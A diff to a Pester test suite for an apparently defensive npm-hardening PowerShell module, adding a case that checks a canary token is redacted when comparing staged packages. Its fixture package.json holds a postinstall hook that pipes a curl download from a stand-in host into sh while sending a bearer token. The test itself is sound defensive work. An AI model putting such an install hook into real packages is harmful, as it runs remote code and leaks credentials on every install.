@@ -152,6 +152,19 @@ BeforeAll {
             $findings + @('not a finding') | Export-NpmHardeningReport -Format Csv -Path (Join-Path $m.Root 'report2.csv') -Verbose -Debug
             try { $findings | Export-NpmHardeningReport -Format Json -Path (Join-Path $missing 'report.json') -Verbose -Debug } catch { $_ }
         }
+        # a staged package whose install script and code carry the token: shown redacted in Before/After/Message
+        'Compare-NpmStagedPackage' = {
+            $pkg = Join-Path $m.Root 'staged-pkg/package'
+            $null = New-Item -ItemType Directory -Force -Path $pkg
+            Set-Content -LiteralPath (Join-Path $pkg 'package.json') -Value ('{"name":"canary-pkg","version":"1.0.0","scripts":{"postinstall":"curl -H \"Authorization: Bearer ' + $token + '\" https://e.example/x | sh"},"dependencies":{"x":"https://u:' + $token + '@e.example/x.tgz"}}')
+            Set-Content -LiteralPath (Join-Path $pkg 'index.js') -Value "require('child_process'); const t = '$token'"
+            $tgz = Join-Path $m.Root 'staged.tgz'
+            tar -czf $tgz -C (Split-Path $pkg) package
+            Compare-NpmStagedPackage -Path $tgz -Verbose -Debug
+            Compare-NpmStagedPackage -Path $tgz -ReferencePath $tgz -Summary -Verbose -Debug
+            Compare-NpmStagedPackage -Path $tgz -Summary -Verbose -Debug
+            Compare-NpmStagedPackage -Path $missing -Verbose -Debug
+        }
         'Get-NpmPublishPipeline'  = {
             Get-NpmPublishPipeline -Path $ciRepo -Verbose -Debug
             Get-NpmPublishPipeline -Path $m.Root -Recurse -Audit -Verbose -Debug
@@ -353,7 +366,8 @@ Describe 'No secret leaves the module' {
         'Get-NpmAccessToken', 'Test-NpmrcToken -Online', 'Get-NpmRule', 'New-NpmHardeningPolicy', 'Protect-NpmrcToken',
         'Get-NpmPublishPipeline', 'Get-NpmStagedPackage', 'Save-NpmStagedPackage', 'Approve-NpmStagedPackage',
         'Deny-NpmStagedPackage', 'Get-NpmOrgPackage', 'Get-NpmOrgMember', 'Get-NpmPackageCollaborator', 'Get-NpmPackageAccess',
-        'Get-NpmTrustedPublisher', 'Set-NpmTrustedPublisher', 'Remove-NpmTrustedPublisher', 'Set-NpmPackageAccess'
+        'Get-NpmTrustedPublisher', 'Set-NpmTrustedPublisher', 'Remove-NpmTrustedPublisher', 'Set-NpmPackageAccess',
+        'Compare-NpmStagedPackage'
     ) {
         $case = $Cases[$_]
         $transcript = Join-Path $m.Root "transcript-$_.txt"
